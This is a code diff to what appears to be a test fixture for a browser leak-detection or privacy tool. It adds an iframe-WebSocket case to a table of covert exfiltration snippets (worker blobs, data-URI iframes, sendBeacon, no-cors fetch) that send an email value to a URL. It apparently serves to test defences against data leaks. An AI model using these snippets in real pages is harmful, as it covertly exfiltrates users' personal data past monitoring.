@@ -95,6 +95,7 @@ export const UNSEEN: Readonly<Partial<Record<CannotBeSeen, string>>> = {
   'worker-file': `new Worker(window.URL.createObjectURL(new Blob(["const form = new FormData(); form.append('file', new File(['" + EMAIL + "'], 'a.txt')); fetch('" + URL + "', { method: 'POST', body: form })"])))`,
   'odd-blob': `fetch(URL, { get method() { return 'POST' }, get body() { return new Blob([EMAIL]) } })`,
   'data-frame': `add('iframe', { src: 'data:text/html,' + encodeURIComponent('<script>const one = new WebSocket("' + URL.replace('https', 'wss') + '"); one.onopen = () => one.send("' + EMAIL + '")</' + 'script>') })`,
+  'empty-frame-socket': `socketOpen(one => one.send(EMAIL), add('iframe', { src: '/late' }).contentWindow.WebSocket)`,
   'empty-frame-blob': `add('iframe', { src: '/style.css' }).contentWindow.navigator.sendBeacon(URL, new Blob([EMAIL]))`,
 }
 
@@ -158,7 +159,7 @@ export const tools = (path: string): string => `
   const xhr = (body, later = true) => { const request = new XMLHttpRequest(); request.open('POST', URL, later); request.send(body) }
   const post = "fetch('" + URL + "', { method: 'POST', body: '" + EMAIL + "' })"
   const inline = '<script>fetch("' + URL + '", { method: "POST", mode: "no-cors", body: "' + EMAIL + '" })</' + 'script>'
-  const socketOpen = use => { const one = new WebSocket(URL.replace('https', 'wss')); one.onopen = () => use(one) }
+  const socketOpen = (use, Socket = WebSocket) => { const one = new Socket(URL.replace('https', 'wss')); one.onopen = () => use(one) }
   const socket = data => socketOpen(one => one.send(data))
   const fileOf = name => {
     const file = Object.assign(document.createElement('input'), { type: 'file', name: 'file' })
